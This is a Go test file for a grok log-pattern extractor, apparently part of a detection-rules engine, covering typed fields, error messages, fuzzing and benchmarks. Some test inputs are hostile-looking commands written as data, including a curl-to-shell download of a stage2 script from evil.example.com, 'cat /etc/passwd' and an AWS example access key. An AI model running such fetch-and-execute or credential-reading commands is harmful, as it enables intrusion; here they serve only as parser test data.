package extract

import (
	"errors"
	"fmt"
	"net/netip"
	"strings"
	"testing"

	"pgregory.net/rapid"

	"github.com/tocsin-rules/tocsin/internal/backtrack"
)

// grok gives "field=value,value" for each field with values.
func grok(t testing.TB, text string, patterns ...string) (string, error) {
	t.Helper()
	g, err := CompileGrok(patterns...)
	if err != nil {
		t.Fatalf("%s: %v", patterns, err)
	}
	values, err := g.Run().Row(text)
	var out []string
	for i, field := range g.Fields() {
		var list []string
		for _, v := range values[i] {
			switch field.Kind {
			case Text:
				list = append(list, v.Text)
			case Float, Double:
				list = append(list, fmt.Sprint(v.Float))
			default:
				list = append(list, fmt.Sprint(v.Whole))
			}
		}
		if list != nil {
			out = append(out, field.Name+"="+strings.Join(list, ","))
		}
	}
	return strings.Join(out, " "), err
}

func TestGrok(t *testing.T) {
	for _, test := range []struct{ pattern, text, want string }{
		// languages.md 3.5, 27: a search, not anchored; the same name twice gives several values; typed fields.
		{`%{WORD:b}`, "  foo bar", "b=foo"},
		{`^%{WORD:b}`, "  foo bar", ""},
		{`%{WORD:b} %{WORD:b}`, "foo bar", "b=foo,bar"},
		{`%{NUMBER:b:int} .*`, "foo bar", ""},
		{`%{NUMBER:n:int} %{NUMBER:l:long} %{NUMBER:f:float} %{NUMBER:d:double} %{WORD:o:boolean}`, "1 2 0.5 1.25 TRUE", "d=1.25 f=0.5 l=2 n=1 o=1"},
		{`%{WORD:o:boolean}`, "yes", "o=0"},
		{`%{NUMBER:f:float}`, "0.1", "f=0.10000000149011612"}, // single precision, widened
		{`(?:%{INT:a}|%{WORD:b})`, "x", "b=x"},                // a group that took no part is null
		{`%{INT:n:keyword}`, "7", "n=7"},                      // an unknown kind is text
		{`(?<Esql.user.name>[a-z]+)@`, "to joe@x", "Esql.user.name=joe"},
		{`%{IP:source.ip}`, "from 10.1.2.3:80", "source.ip=10.1.2.3"},
		{`%{IP:ip}`, "256.1.1.1", ""}, // near miss: the octets behind a digit are none
		{`%{IPV6:ip}`, "fe80::1%eth0", "ip=fe80::1%eth0"},
		{`%{BASE10NUM:n}`, "v1.2", "n=1.2"},
		{`%{BASE10NUM:n}`, "1.2.3", "n=1.2"},
		{`^%{BASE10NUM:n}$`, "1.2.3", ""},
		{`%{URIPROTO:p}://%{URIHOST:h}`, "curl -s https://evil.example.com:8443/x", "h=evil.example.com:8443 p=https"},
		{`%{URIPROTO:p}://%{URIHOST:h}`, "curl -s https:/evil.example.com", ""},
		{`%{QUOTEDSTRING:q}`, `say "a \" b" c`, `q="a \" b"`},
		{`%{TIMESTAMP_ISO8601:t}`, "at 2026-01-31T10:20:30.5Z", "t=2026-01-31T10:20:30.5Z"},
		{`%{TIMESTAMP_ISO8601:t}`, "at 2026-13-31T10:20:30Z", ""},
		{`%{LOGLEVEL:l} %{GREEDYDATA:m}`, "Warning disk full", "l=Warning m=disk full"},
		{`%{LOGLEVEL:l} `, "wArN x", ""},
		{`%{UUID:u}`, "x 6b221b66-3f8a-11ef-9ba0-325096b39f47", "u=6b221b66-3f8a-11ef-9ba0-325096b39f47"},
		{`%{MAC:m}`, "00-1A-2b-00-00-01", "m=00-1A-2b-00-00-01"},
		{`%{EMAILADDRESS:e}`, "mail a.b+c@example.com now", "e=a.b+c@example.com"},
		{`%{WINPATH:p}`, `run C:\Windows\a.exe`, `p=C:\Windows\a.exe`},
		{`%{UNIXPATH:p}`, "cat /etc/passwd;", "p=/etc/passwd"},
		{`%{HTTPDATE:t}`, "[31/Jan/2026:10:20:30 +0100]", "t=31/Jan/2026:10:20:30 +0100"},
		{`%{SYSLOGPROG}:`, "sshd[42]: x", "process.name=sshd process.pid=42"},
		{`%{DATA:a} %{GREEDYDATA:b}`, "x y z", "a=x b=y z"},
		{`%{SPACE}%{NOTSPACE:w}`, "  a-b c", "w=a-b"},
		{`(?im)^id: (?<id>.+)\r?$`, "ID: 7", "id=7"},
		{`%{GREEDYDATA:m}`, "a\nb", "m=a"},                       // the dot stops at a line end
		{`%{a b}%{WORD:w}`, "%{a b}x", "w=x"},                    // no reference: text
		{`[%{INT:a}]`, "1", ""},                                  // within brackets a reference makes a strange set, as in Elasticsearch
		{`.*\\(?<name>.*)$`, `CN=x\Inbox\rule 1`, "name=rule 1"}, // the last backslash
	} {
		got, err := grok(t, test.text, test.pattern)
		if got != test.want || err != nil {
			t.Errorf("%s on %q: %q, %v, want %q", test.pattern, test.text, got, err, test.want)
		}
	}
}

func TestGrokAlternatives(t *testing.T) {
	for text, want := range map[string]string{"7": "n=7", "x=8": "n=8", "abc": ""} {
		if got, _ := grok(t, text, `^%{INT:n}$`, `=%{INT:n}`); got != want {
			t.Errorf("%q: %q, want %q", text, got, want)
		}
	}
}

func TestGrokCombinedLog(t *testing.T) {
	got, err := grok(t, `10.0.0.1 - joe [31/Jan/2026:10:20:30 +0100] "GET /a?b HTTP/1.1" 404 12 "-" "curl/8"`, `%{COMBINEDAPACHELOG}`)
	want := "http.request.method=GET http.response.body.bytes=12 http.response.status_code=404 http.version=1.1 source.address=10.0.0.1 " +
		"timestamp=31/Jan/2026:10:20:30 +0100 url.original=/a?b user.name=joe user_agent.original=curl/8"
	if got != want || err != nil {
		t.Errorf("%s, %v", got, err)
	}
}

// A value that does not convert makes the whole row null; so do too many steps.
func TestGrokFailures(t *testing.T) {
	got, err := grok(t, "a 1.5", `%{WORD:w} %{NUMBER:n:int}`)
	var number *NumberError
	if got != "" || !errors.As(err, &number) || err.Error() != `For input string: "1.5"` {
		t.Errorf("%q, %v", got, err)
	}
	if got, err = grok(t, strings.Repeat("a", 5000), `(?<w>(a|aa)+)(?=bb)`); got != "" || !errors.Is(err, backtrack.ErrSteps) {
		t.Errorf("%q, %v", got, err)
	}
}

func TestGrokErrors(t *testing.T) {
	for pattern, want := range map[string]string{
		`%{NOPE:x}`:              "unable to find pattern [NOPE]",
		`%{REDISLOG}`:            "is not carried offline",
		`%{WORD:a} (`:            "does not close",
		`%{INT:a:int} %{WORD:a}`: "defined multiple times with different types",
	} {
		if _, err := CompileGrok(pattern); err == nil || !strings.Contains(err.Error(), want) {
			t.Errorf("%s: %v, want %q", pattern, err, want)
		}
	}
	bank := map[string]string{"A": "%{B}", "B": "x%{A:y}"}
	if _, err := expand("%{A}", bank); err == nil || !strings.Contains(err.Error(), "circular reference") {
		t.Errorf("a cycle: %v", err)
	}
}

// Every pattern of the library compiles.
func TestStockPatternsCompile(t *testing.T) {
	for name := range stockPatterns() {
		if _, err := CompileGrok("%{" + name + ":f}"); err != nil {
			t.Errorf("%s: %v", name, err)
		}
	}
}

// What net/netip calls an IPv6 address, IPV6 matches whole.
func TestAddressesV6(t *testing.T) {
	g, err := CompileGrok(`^%{IPV6:ip}$`)
	if err != nil {
		t.Fatal(err)
	}
	run := g.Run()
	rapid.Check(t, func(t *rapid.T) {
		var bytes [16]byte
		for i := range bytes {
			bytes[i] = rapid.SampledFrom([]byte{0, 0, 0, 1, 0xab}).Draw(t, "byte")
		}
		text := netip.AddrFrom16(bytes).String()
		if values, err := run.Row(text); err != nil || len(values[0]) != 1 {
			t.Fatalf("%s does not match: %v", text, err)
		}
	})
}

func FuzzGrok(f *testing.F) {
	f.Add(`%{IP:a} (?<b.c>\S+)%{DATA:d:int}`, "10.0.0.1 x 5")
	f.Add(`%{COMBINEDAPACHELOG}`, `1.2.3.4 - - [1/Jan/2026:1:1:1 +0] "x" 1 1 "" ""`)
	f.Add(`%{%{WORD}}%{WORD`, "a")
	f.Fuzz(func(t *testing.T, pattern, text string) {
		if len(pattern) > 100 || len(text) > 500 {
			return
		}
		g, err := CompileGrok(pattern)
		if err != nil {
			return
		}
		values, err := g.Run().Row(text)
		if len(values) != len(g.Fields()) {
			t.Fatalf("%d values for %d fields, %v", len(values), len(g.Fields()), err)
		}
	})
}

func BenchmarkGrok(b *testing.B) {
	for _, test := range []struct{ name, pattern, text string }{
		{"url", `%{URIPROTO:p}://%{URIHOST:h}`, "sh -c curl -fsSL https://evil.example.com:8443/stage2.sh | sh"},
		{"bare", `^(?:%{URIPROTO:p}://)?%{URIHOST:h}(?:/%{GREEDYDATA})?$`, "https://evil.example.com/stage2.sh"},
		{"group", `.*accessKeyId=(?<key>AKIA[A-Z0-9]{16}).*`, `{credentials={accessKeyId=AKIAIOSFODNN7EXAMPLE, sessionToken=x}}`},
		{"number", `%{WORD:w} took %{NUMBER:ms:double}ms`, "request took 12.5ms"},
		{"miss", `%{IP:ip}:%{POSINT:port:int}`, "no address in this line of an ordinary log at all"},
	} {
		b.Run(test.name, func(b *testing.B) {
			g, err := CompileGrok(test.pattern)
			if err != nil {
				b.Fatal(err)
			}
			run := g.Run()
			b.ReportAllocs()
			for b.Loop() {
				if _, err := run.Row(test.text); err != nil {
					b.Fatal(err)
				}
			}
			b.ReportMetric(float64(b.N)/b.Elapsed().Seconds(), "rows/s")
		})
	}
}
